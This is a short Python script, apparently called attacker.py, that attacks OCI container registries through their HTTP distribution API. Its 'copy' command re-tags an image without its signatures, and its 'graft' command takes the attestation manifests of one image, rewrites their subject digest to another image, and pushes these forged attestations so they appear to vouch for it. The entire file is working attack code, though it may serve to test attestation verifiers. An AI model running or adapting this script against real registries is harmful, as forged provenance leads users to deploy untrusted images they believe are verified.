"""What somebody with write access to a registry can do, by the plain HTTP of the distribution protocol.

    attacker.py copy  http://HOST:PORT SOURCE TARGET     an image, and nothing that vouches for it
    attacker.py graft http://HOST:PORT SOURCE TARGET     the attestations of SOURCE, offered as TARGET's

SOURCE and TARGET are REPOSITORY:TAG.
"""

from __future__ import annotations

import hashlib
import json
import sys
import urllib.request
from typing import Any

MANIFEST = "application/vnd.oci.image.manifest.v1+json"


class Registry:
    def __init__(self, url: str) -> None:
        self.url = url

    def call(self, method: str, path: str, body: bytes | None = None, kind: str = MANIFEST) -> bytes:
        request = urllib.request.Request(f"{self.url}{path}", body, {"Content-Type": kind}, method=method)
        with urllib.request.urlopen(request, timeout=10) as answer:
            return answer.read()

    def manifest(self, reference: str) -> tuple[bytes, str]:
        repository, _, tag = reference.partition(":")
        request = urllib.request.Request(f"{self.url}/v2/{repository}/manifests/{tag}")
        with urllib.request.urlopen(request, timeout=10) as answer:
            return answer.read(), answer.headers["Docker-Content-Digest"]

    def mount(self, digest: str, source: str, target: str) -> None:
        self.call("POST", f"/v2/{target}/blobs/uploads/?mount={digest}&from={source}", b"")


def parts(manifest: dict[str, Any]) -> list[str]:
    return [manifest["config"]["digest"], *(layer["digest"] for layer in manifest["layers"])]


def copy(registry: Registry, source: str, target: str) -> None:
    raw, _ = registry.manifest(source)
    from_, to = source.partition(":")[0], target.partition(":")[0]
    for digest in parts(json.loads(raw)):
        registry.mount(digest, from_, to)
    registry.call("PUT", f"/v2/{to}/manifests/{target.partition(':')[2]}", raw)


def graft(registry: Registry, source: str, target: str) -> None:
    from_, to = source.partition(":")[0], target.partition(":")[0]
    _, source_digest = registry.manifest(source)
    raw, digest = registry.manifest(target)
    subject = {"mediaType": MANIFEST, "digest": digest, "size": len(raw)}
    listed = json.loads(registry.call("GET", f"/v2/{from_}/referrers/{source_digest}"))
    for entry in listed["manifests"]:
        stolen = json.loads(registry.call("GET", f"/v2/{from_}/manifests/{entry['digest']}"))
        for blob in parts(stolen):
            registry.mount(blob, from_, to)
        stolen["subject"] = subject
        forged = json.dumps(stolen).encode()
        registry.call("PUT", f"/v2/{to}/manifests/sha256:{hashlib.sha256(forged).hexdigest()}", forged)


if __name__ == "__main__":
    {"copy": copy, "graft": graft}[sys.argv[1]](Registry(sys.argv[2]), *sys.argv[3:])
